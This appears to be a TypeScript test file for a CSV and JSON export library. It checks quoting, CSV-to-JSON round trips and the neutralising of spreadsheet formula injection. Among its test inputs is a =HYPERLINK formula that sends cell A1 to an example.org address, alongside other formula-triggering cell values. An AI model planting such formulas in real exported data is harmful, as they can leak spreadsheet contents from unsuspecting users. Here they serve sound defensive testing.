import { parse } from 'csv-parse/sync'
import { expect, test } from 'vitest'
import { rowObject, writeCsv, writeJson, type Cell, type Columns } from '../../lib/export'
import { csvCell } from '../../lib/export/csv-cell'

async function textOf(pieces: AsyncIterable<string>): Promise<string> {
  const all: string[] = []
  for await (const piece of pieces) all.push(piece)
  return all.join('')
}

test.each<[Cell, string]>([
  ['plain', '"plain"'],
  ['she said "no", twice', '"she said ""no"", twice"'],
  ['two\nlines', '"two\nlines"'],
  ['', '""'],
  [null, ''],
  [-0.42, '-0.42'],
  [0, '0'],
  [true, 'true'],
  [['Ana', 'Budi'], '"Ana; Budi"'],
  [[], '""'],
  // what a spreadsheet would run
  ['=1+1', `"'=1+1"`],
  ['=HYPERLINK("http://example.org?"&A1,"open")', `"'=HYPERLINK(""http://example.org?""&A1,""open"")"`],
  ['+62 812', `"'+62 812"`],
  ['-2+3', `"'-2+3"`],
  ['@SUM(A1)', `"'@SUM(A1)"`],
  ['\t=1', `"'\t=1"`],
  ['\r=1', `"'\r=1"`],
  ['\n=1', `"'\n=1"`],
  ['＝1＋1', `"'＝1＋1"`],
  [['=1', 'x'], `"'=1; x"`],
  // a semicolon parts cells in some countries: the quote marks hold the text together
  ['a;=1+1', '"a;=1+1"'],
  ['a,"=1', '"a,""=1"'],
  // a true minus begins no formula
  ['−0.42', '"−0.42"'],
])('the cell %j is written %s', (cell, written) => {
  expect(csvCell(cell)).toBe(written)
})

interface Row {
  readonly name: string
  readonly mean: number | null
  readonly countries: readonly string[]
}

const columns: Columns<Row> = [
  { name: 'name', cell: ({ name }) => name },
  { name: 'mean', cell: ({ mean }) => mean },
  { name: 'countries', cell: ({ countries }) => countries },
]
const rows: readonly Row[] = [
  { name: 'Ratu, “Wulandari”', mean: -0.123456789012345, countries: ['RU', 'US'] },
  { name: 'a "b"\r\nc', mean: null, countries: [] },
  { name: '', mean: 1e-7, countries: ['ID'] },
]

test('a CSV file read back is the JSON file', async () => {
  const read = parse(await textOf(writeCsv(columns, rows)), { bom: true, columns: true })
  const { about, rows: objects } = JSON.parse(await textOf(writeJson({ table: 'test' }, columns, rows)))
  expect(about).toEqual({ table: 'test' })
  expect(objects).toEqual(rows.map((row) => rowObject(columns, row)))
  expect(read).toEqual(objects.map((object: Record<string, Cell>) => Object.fromEntries(Object.entries(object).map(([name, cell]) => [name, Array.isArray(cell) ? cell.join('; ') : String(cell ?? '')]))))
})

test('a table without rows is its header, and an empty list', async () => {
  expect(await textOf(writeCsv(columns, []))).toBe('\uFEFF"name","mean","countries"\r\n')
  expect(JSON.parse(await textOf(writeJson({}, columns, [])))).toEqual({ about: {}, rows: [] })
})
